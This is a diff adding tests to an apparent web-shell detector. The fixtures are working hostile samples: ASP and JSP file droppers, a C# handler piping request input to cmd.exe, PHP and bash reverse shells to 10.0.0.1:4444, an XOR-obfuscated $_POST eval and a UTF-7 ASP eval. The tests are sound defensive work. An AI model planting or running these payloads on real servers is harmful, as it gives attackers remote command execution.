@@ -112,6 +112,40 @@ describe('JSP traits', () => {
   });
 });
 
+describe('droppers, tunnels and reverse shells', () => {
+  it('flags a small ASP page that writes a file the request names and fills', () => {
+    const page = '<%\np = Request("p")\nd = Request("d")\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fs.CreateTextFile(p, True)\nf.Write d\nf.Close\n%>';
+    expect(ids(run('a.asp', page))).toEqual(expect.arrayContaining(['create-file-request', 'small-dropper']));
+    expect(flagged('a.asp', page)).toBe(true);
+  });
+  it('flags a JSP page writing request bytes to a request-named file', () => {
+    const page = '<%new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("n")).write(request.getParameter("b").getBytes());%>';
+    expect(flagged('w.jsp', page)).toBe(true);
+  });
+  it('flags cmd.exe fed on stdin from the request', () => {
+    const page = '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Diagnostics;\npublic class H { public void ProcessRequest(System.Web.HttpContext c) {\nstring x = c.Request["x"];\nvar p = new Process(); p.StartInfo.FileName = "cmd.exe";\np.Start();\np.StandardInput.WriteLine(x);\n} }';
+    expect(ids(run('h.ashx', page))).toContain('stdin-request');
+  });
+  it('flags reverse shells', () => {
+    expect(flagged('r.php', '<?php $s = fsockopen("10.0.0.1", 4444); proc_open("/bin/sh -i", array(0 => $s, 1 => $s, 2 => $s), $p); ?>')).toBe(true);
+    expect(flagged('r.jsp', '<% Runtime.getRuntime().exec(new String[]{"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}); %>')).toBe(true);
+  });
+  it('flags a superglobal name computed by XOR', () => {
+    const hits = run('x.php', '<?php $a = "~+d()" ^ "!{+{}"; $b = ${$a}["c"]; eval($b); ?>');
+    expect(ids(hits)).toContain('hidden-function-name');
+    expect(hits[0]?.description).toMatch(/_post/);
+  });
+  it('flags a UTF-7 ASP page', () => {
+    expect(flagged('u.asp', '<%@codepage=65000%>\n<%+AGUAdgBhAGw-%>')).toBe(true);
+  });
+  it('does not flag an installer writing its configuration or a classic-ASP dynamic include', () => {
+    const install = "<?php\nif ($_POST['db']) {\n  $cfg = \"<?php define('DB', '\" . addslashes($_POST['db']) . \"');\";\n  file_put_contents(__DIR__ . '/config.php', $cfg);\n}\n";
+    expect(flagged('app/install.php', install)).toBe(false);
+    const include = '<%\nFunction ReadInclude(p)\n  ReadInclude = fso.OpenTextFile(Server.MapPath(p)).ReadAll\nEnd Function\nExecuteGlobal ReadInclude("inc/common.asp")\n%>';
+    expect(flagged('cms/default.asp', include)).toBe(false);
+  });
+});
+
 describe('obfuscation and encodings', () => {
   it('decodes UTF-16 scripts and says so', () => {
     const utf16 = new Uint8Array(Buffer.from('\ufeff<%eval request("a")%>', 'utf16le'));
